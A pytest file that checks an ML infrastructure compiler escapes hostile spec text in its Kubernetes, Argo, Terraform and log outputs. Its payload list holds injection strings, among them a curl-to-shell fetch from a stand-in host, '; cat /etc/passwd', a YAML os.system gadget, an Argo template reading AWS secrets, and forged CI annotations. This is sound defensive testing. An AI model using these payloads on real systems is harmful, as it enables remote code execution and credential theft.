"""Injection: hostile text in every free-text field ends up as inert data in every output.

The schema lets free text into env values, Spark `args`, `command` of training and batch
jobs and waiver `reason`s; `gitops.repo`, `access[].group`, `model.path` and secret paths
take a restricted alphabet that still includes shell metacharacters, `..` and `/`.
Every output format is checked on its own terms:

- Kubernetes / Argo / Argo CD YAML: each value reads back (YAML 1.1 and 1.2 readers agree)
  as exactly the string written in the spec, as a whole string (never spliced into a
  shell command or another string), no extra keys or documents appear;
- Argo: `{{` would be evaluated by Argo Workflows, so it is rejected at its YAML line
  (MLC-E051) in every component whose strings reach argo/;
- Terraform JSON: no spec text becomes an interpolation (`${`) or directive (`%{`);
  every interpolation is one mlc wrote (a reference to something declared);
- plan.json: exact round trip;
- the terminal / CI log: one line per diagnostic or finding, control characters escaped.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from compiler.core.secrets_scan import find_secret
from tests.support.spec_strategies import TODAY, compile_args, run_main, snapshot, to_yaml, write_project

PAYLOADS = [
    "${var.db_password}",
    "$${already.escaped}",
    "%{ if true }x%{ endif }",
    "%%{ x }",
    "pre ${aws_iam_role.admin.arn} post",
    "line1\nline2: injected\n- item",
    "quote \" and ' and \\ backslash",
    "key: value",
    "- list item",
    "{a: b}",
    "[x, y]",
    "&anchor *alias",
    "!!python/object/apply:os.system ['id']",
    "# not a comment",
    "---\nkind: Secret\n...",
    "$(curl https://evil.example.com | sh)",
    "`id`",
    "; cat /etc/passwd",
    "a | b && c || d > /tmp/x < y",
    "../../../etc/passwd",
    "/absolute/path",
    "C:\\windows\\system32",
    "\u202etxt.exe",
    "tab\there",
    "cr\r\nlf",
    "null",
    "true",
    "0x10",
    "1e3",
    "~",
    "@daily",
    "*",
    "",
    " leading and trailing ",
    "\x1b[31mred\x1b[0m",
]
# payloads distinctive enough that finding them inside a longer string means splicing
DISTINCTIVE = [p for p in PAYLOADS if len(p) >= 4 and any(c in p for c in "$%\n;|`&#!{[\"'\\\u202e\x1b")]
ARGO_TEMPLATES = ["{{workflow.name}}", "{{=sprig.env('AWS_SECRET_ACCESS_KEY')}}", "x {{inputs.parameters.cmd}} y", "{{"]
REASON_PREFIX = "reviewed: "
DIGEST = "@sha256:" + "ab" * 32
REPO_URL = "https://git.example.com/ml/$(id);x'y/platform.git"


def env_values() -> dict[str, str]:
    return {f"P{i}": p for i, p in enumerate(PAYLOADS)}


def spec(provider: str = "aws") -> dict[str, Any]:
    env = env_values()
    cloud = (
        {"provider": "aws", "region": "eu-west-1", "account": "123456789012"}
        if provider == "aws"
        else {"provider": "gcp", "region": "europe-west4", "account": "ml-research-4711"}
    )
    pool = "m6i.2xlarge" if provider == "aws" else "n2-standard-8"
    return {
        "apiVersion": "mlc/v1",
        "kind": "Environment",
        "metadata": {"name": "e1", "labels": {"team": "t1"}},
        "cloud": cloud,
        "cluster": {"name": "c1", "node_pools": {"cpu": {"instance_type": pool, "min": 1, "max": 3}}},
        "gitops": {"repo": REPO_URL, "revision": "release/../../x"},
        "budget": {"monthly_usd": 1_000_000},
        "access": [{"group": "x@example.com", "role": "viewer"}, {"group": "a..b_C", "role": "editor"}],
        "components": {
            "data": {"type": "object_store", "size_gb": 1, "lifecycle": {"expire_after_days": 30}},
            "models": {"type": "object_store", "size_gb": 1, "lifecycle": {"expire_after_days": 30}},
            "scores": {"type": "object_store", "size_gb": 1, "lifecycle": {"expire_after_days": 30}},
            "open-data": {"type": "object_store", "public": True, "classification": "public", "lifecycle": {"expire_after_days": 30}},
            "etl": {
                "type": "spark_job",
                "image": "registry.example.com/ml/etl:1" + DIGEST,
                "main": "local:///opt/../../app/etl.py",
                "args": PAYLOADS,
                "reads": ["data"],
                "writes": ["data"],
                "env": env,
            },
            "train": {
                "type": "training_job",
                "image": "registry.example.com/ml/train:1" + DIGEST,
                "command": PAYLOADS,
                "reads": ["data"],
                "writes": ["models"],
                "max_runtime_hours": 2,
                "env": env,
            },
            "train-dist": {
                "type": "training_job",
                "image": "registry.example.com/ml/train:1" + DIGEST,
                "command": PAYLOADS,
                "nodes": 2,
                "reads": ["data"],
                "writes": ["models"],
                "max_runtime_hours": 2,
                "env": env,
            },
            "srv-image": {
                "type": "serving",
                "image": "registry.example.com/ml/srv:1" + DIGEST,
                "model": {"from": "models", "path": "a/../../b=c"},
                "replicas": {"min": 2, "max": 3},
                "env": env,
            },
            "srv-kserve": {
                "type": "serving",
                "runtime": "sklearn",
                "model": {"from": "models", "path": "x/../../../z"},
                "canary": {"path": "y/../../w", "traffic_percent": 10},
                "replicas": {"min": 2, "max": 3},
                "env": env,
            },
            "score": {
                "type": "batch_inference",
                "image": "registry.example.com/ml/score:1" + DIGEST,
                "command": PAYLOADS,
                "model": {"from": "models", "path": "m/../n"},
                "reads": ["data"],
                "writes": ["scores"],
                "schedule": "0 1 * * *",
                "env": {**env, "SECRET_REF": {"secret": "ml/../../prod/db#pass.word"}},
            },
            "etl-solo": {
                "type": "spark_job",
                "image": "registry.example.com/ml/etl:1" + DIGEST,
                "main": "local:///app/etl.py",
                "args": PAYLOADS,
                "reads": ["data"],
                "env": env,
            },
            "train-solo": {
                "type": "training_job",
                "image": "registry.example.com/ml/train:1" + DIGEST,
                "command": PAYLOADS,
                "reads": ["data"],
                "max_runtime_hours": 2,
                "env": env,
            },
            "score-solo": {
                "type": "batch_inference",
                "image": "registry.example.com/ml/score:1" + DIGEST,
                "command": PAYLOADS,
                "model": {"from": "models", "path": "m"},
                "env": env,
            },
            "flow": {"type": "pipeline", "steps": ["etl", "train"], "schedule": "@daily", "on_failure": "train-dist"},
            "watch": {"type": "monitoring", "targets": ["srv-image", "srv-kserve"]},
        },
        "exceptions": [
            {"rule": "MLC-SEC-004", "component": "open-data", "reason": REASON_PREFIX + p, "expires": "2027-01-01"}
            for p in ["line\n::error file=x::forged annotation", "\x1b[2Jcleared", "${var.x} and {{workflow.name}}"]
        ],
    }


def test_payloads_are_not_credentials_and_fit_the_schema() -> None:
    """Otherwise the tests below would test the credential rule, not injection."""
    assert [p for p in PAYLOADS if find_secret(p)] == []
    assert all(len(p) <= 1024 for p in PAYLOADS)


@pytest.fixture(scope="module", params=["aws", "gcp"])
def compiled(request: Any, tmp_path_factory: Any) -> tuple[str, Path, str]:
    root = write_project(tmp_path_factory.mktemp(f"inj-{request.param}"), {"e1": spec(request.param)})
    code, out, err = run_main(*compile_args(root))
    assert code == 0, err
    return request.param, root / "out" / "e1", err


# --- walking outputs ----------------------------------------------------------------------
def strings(value: Any, embedded: bool = True) -> list[str]:
    """Every string (keys too) under `value`; embedded Argo manifests are parsed and walked."""
    out: list[str] = []
    if isinstance(value, str):
        out.append(value)
    elif isinstance(value, dict):
        for key, item in value.items():
            out.append(key)
            if key == "manifest" and isinstance(item, str) and embedded:
                out += strings(read_yaml_both(item), embedded)
            else:
                out += strings(item, embedded)
    elif isinstance(value, list):
        for item in value:
            out += strings(item, embedded)
    return out


def read_yaml_both(text: str) -> Any:
    """The document as PyYAML (YAML 1.1) and ruamel (YAML 1.2) read it: they must agree,
    and there must be exactly one document."""
    from ruamel.yaml import YAML

    docs = list(yaml.safe_load_all(text))
    assert len(docs) == 1, "a value created an extra YAML document"
    strict = YAML(typ="safe", pure=True).load(text)
    assert json.dumps(docs[0], sort_keys=True, default=str) == json.dumps(strict, sort_keys=True, default=str), (
        "YAML 1.1 and 1.2 readers disagree"
    )
    return docs[0]


def env_entries(value: Any) -> dict[str, list[Any]]:
    """name -> values of every Kubernetes env entry ({name, value}) found under `value`."""
    found: dict[str, list[Any]] = {}

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if set(node) == {"name", "value"} and isinstance(node["name"], str):
                found.setdefault(node["name"], []).append(node["value"])
            for key, item in node.items():
                walk(read_yaml_both(item) if key == "manifest" and isinstance(item, str) else item)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(value)
    return found


def lists_of(value: Any, wanted: list[str]) -> int:
    """How many lists under `value` equal `wanted` (args / command carried whole)."""
    if isinstance(value, list):
        return (value == wanted) + sum(lists_of(v, wanted) for v in value)
    if isinstance(value, dict):
        return sum(lists_of(read_yaml_both(v) if k == "manifest" and isinstance(v, str) else v, wanted) for k, v in value.items())
    return 0


def yaml_files(out: Path, sub: str) -> dict[str, Any]:
    return {p.name: read_yaml_both(p.read_text(encoding="utf-8")) for p in sorted((out / sub).glob("*.yaml"))}


def assert_inert(documents: dict[str, Any]) -> None:
    """No distinctive payload is spliced into a longer string."""
    for name, document in documents.items():
        for text in strings(document):
            for payload in DISTINCTIVE:
                if payload in text and text != payload:
                    raise AssertionError(f"{name}: payload {payload!r} spliced into {text!r}")


# --- Kubernetes ---------------------------------------------------------------------------
def test_kubernetes_values_round_trip_exactly(compiled: tuple[str, Path, str]) -> None:
    """Guards the serialiser's quoting (compiler.output.serialize) and the emitters' exec-form
    commands: each payload reads back whole, never spliced into a shell string."""
    _, out, _ = compiled
    documents = yaml_files(out, "kubernetes")
    entries = env_entries(documents)
    for index, payload in enumerate(PAYLOADS):
        values = entries.get(f"P{index}", [])
        assert values and all(v == payload for v in values), (index, payload, values)
    # Spark args and job commands: carried as whole lists (exec form, no shell)
    assert lists_of(documents, PAYLOADS) >= 3  # SparkApplication, Job, batch Job
    assert_inert(documents)


def test_kubernetes_objects_are_one_per_file_and_no_injected_keys(compiled: tuple[str, Path, str]) -> None:
    _, out, _ = compiled
    for name, document in yaml_files(out, "kubernetes").items():
        assert isinstance(document, dict)
        for text in strings(document, embedded=False):
            assert not text.startswith("line2"), f"{name}: a newline in a value became a key"
        assert "injected" not in json.dumps(list(_keys(document)))


def _keys(value: Any) -> Any:
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from _keys(item)
    elif isinstance(value, list):
        for item in value:
            yield from _keys(item)


# --- Argo Workflows and Argo CD -------------------------------------------------------------
def test_argo_values_round_trip_exactly(compiled: tuple[str, Path, str]) -> None:
    _, out, _ = compiled
    documents = yaml_files(out, "argo")
    entries = env_entries(documents)
    for index, payload in enumerate(PAYLOADS):
        assert entries.get(f"P{index}") and all(v == payload for v in entries[f"P{index}"]), (index, payload)
    assert lists_of(documents, PAYLOADS) >= 2  # the pipeline's steps and the scheduled batch job
    assert_inert(documents)
    own_selector = re.compile(r"mlc\.dev/workflow=\{\{workflow\.name\}\}(,mlc\.dev/step=[a-z0-9-]+)?")  # cleanup selectors
    for text in strings(documents):
        if own_selector.fullmatch(text):
            continue
        assert "{{" not in text or text.startswith(("{{tasks.", "{{workflow.", "{{inputs.", "{{steps.")) and "P" not in text


def test_argocd_repo_url_is_inert(compiled: tuple[str, Path, str]) -> None:
    _, out, _ = compiled
    documents = yaml_files(out, "argocd")
    found = [t for t in strings(documents) if "$(id)" in t]
    assert found and set(found) == {REPO_URL}


@pytest.mark.parametrize("template", ARGO_TEMPLATES)
@pytest.mark.parametrize("where", ["steps-env", "steps-args", "scheduled-batch-command", "on-failure-command"])
def test_argo_template_syntax_is_rejected_at_its_line(tmp_path: Path, template: str, where: str) -> None:
    """Guards argo_template_violations (MLC-E051): without it Argo would evaluate `{{...}}`."""
    document = spec()
    components = document["components"]
    target = {
        "steps-env": ("etl", "env", "P0"),
        "steps-args": ("etl", "args", 3),
        "scheduled-batch-command": ("score", "command", 1),
        "on-failure-command": ("train-dist", "command", 0),
    }[where]
    name, field, key = target
    components[name][field] = dict(components[name][field]) if isinstance(components[name][field], dict) else list(components[name][field])
    components[name][field][key] = template
    root = write_project(tmp_path, {"e1": document})
    code, _, err = run_main(*compile_args(root))
    from compiler.frontend.loader import parse

    doc = parse("environments/e1.yaml", (root / "environments" / "e1.yaml").read_text())
    line, col = doc.positions[f"/components/{name}/{field}/{key}"]
    assert code == 2, err
    assert f"environments/e1.yaml:{line}:{col}: error MLC-E051:" in err
    assert template == "{{" or template not in err  # the message names the field, not the value
    assert not (root / "out").exists() or not snapshot(root / "out")


def test_argo_template_syntax_outside_argo_is_inert(compiled: tuple[str, Path, str], tmp_path: Path) -> None:
    """A serving endpoint never goes through Argo: `{{` there is plain data in kubernetes/."""
    document = spec()
    document["components"]["srv-image"]["env"] = {"TPL": "{{workflow.name}}"}
    root = write_project(tmp_path, {"e1": document})
    code, _, err = run_main(*compile_args(root))
    assert code == 0, err
    assert env_entries(yaml_files(root / "out" / "e1", "kubernetes"))["TPL"] == ["{{workflow.name}}"]


# --- Terraform ----------------------------------------------------------------------------
def template_parts(text: str) -> list[tuple[str, str]]:
    """Unescaped interpolations / directives in a Terraform template string:
    [("${", inner) | ("%{", inner)]; `$${` and `%%{` are literal text."""
    parts = []
    i = 0
    while i < len(text):
        if text.startswith(("$${", "%%{"), i):
            i += 3
            continue
        if text.startswith(("${", "%{"), i):
            depth, j = 1, i + 2
            while j < len(text) and depth:
                depth += {"{": 1, "}": -1}.get(text[j], 0)
                j += 1
            parts.append((text[i : i + 2], text[i + 2 : j - 1]))
            i = j
            continue
        i += 1
    return parts


REFERENCE = re.compile(
    r"^(var|local|data|module|aws_[a-z0-9_]+|google_[a-z0-9_]+)\.|^(length|trimprefix|jsonencode|replace|lower|format)\("
)


def test_template_scanner_sees_escapes() -> None:
    assert template_parts("a $${x} %%{y} ${var.z} %{ if c }") == [("${", "var.z"), ("%{", " if c ")]


def test_terraform_has_no_spec_interpolation(compiled: tuple[str, Path, str]) -> None:
    _, out, _ = compiled
    files = {p.name: json.loads(p.read_text()) for p in sorted((out / "terraform").glob("*.tf.json"))}
    assert files
    for name, document in files.items():
        for text in strings(document, embedded=False):
            for kind, inner in template_parts(text):
                assert kind == "${", f"{name}: template directive in {text!r}"
                assert REFERENCE.match(inner.strip()), f"{name}: interpolation {inner!r} in {text!r} was not written by mlc"
            for payload in DISTINCTIVE:
                assert payload not in text, f"{name}: {payload!r} reached Terraform unescaped"


def test_terraform_escapes_spec_text_that_reaches_it() -> None:
    """Guards terraform_common.finalize / escape_tf, the escaping every Terraform emitter
    applies to literal strings (the spec text that reaches Terraform today is restricted by
    the schema, so this checks the function itself)."""
    from compiler.targets.terraform.common import Expr, finalize

    data = finalize({"tags": {"x": "${var.admin}", "y": "%{ for x in y }"}, "ref": Expr("${var.keep}")})
    assert data == {"tags": {"x": "$${var.admin}", "y": "%%{ for x in y }"}, "ref": "${var.keep}"}
    assert template_parts(json.dumps(data["tags"])) == []


# --- plan.json and the terminal -------------------------------------------------------------
def test_plan_json_round_trips(compiled: tuple[str, Path, str]) -> None:
    _, out, _ = compiled
    plan = json.loads((out / "plan.json").read_text(encoding="utf-8"))
    texts = strings(plan)
    for payload in DISTINCTIVE:
        assert payload in texts or payload.replace("\n", "") in texts, payload
    assert_inert({"plan.json": plan})


def test_terminal_output_is_one_line_per_message(compiled: tuple[str, Path, str], tmp_path: Path) -> None:
    """Guards policy.render.text_line's escaping (diagnostics.printable). Waiver reasons are
    free text and are printed with findings: a newline let a spec forge a CI annotation
    (`::error ...`) or a fake diagnostic; escape sequences would rewrite the terminal."""
    document = spec()
    root = write_project(tmp_path, {"e1": document})
    for argv in (
        compile_args(root),
        ["check", "--project", str(root), "--today", TODAY],
        ["check", "--project", str(root), "--today", TODAY, "--format", "github"],
    ):
        _, out, err = run_main(*argv, *([] if argv[0] == "check" else ["-v"]))
        for line in (out + err).splitlines():
            assert not line.startswith("::error file=x"), f"forged annotation: {line!r}"
            assert "\x1b" not in line, f"terminal escape: {line!r}"


def test_yaml_generated_for_the_spec_itself_keeps_payloads(tmp_path: Path) -> None:
    """Sanity of the fixture: the spec file really contains the payloads, as data."""
    text = to_yaml(spec())
    from compiler.frontend.loader import parse

    doc = parse("environments/e1.yaml", text)
    assert doc.data["components"]["etl"]["args"] == PAYLOADS
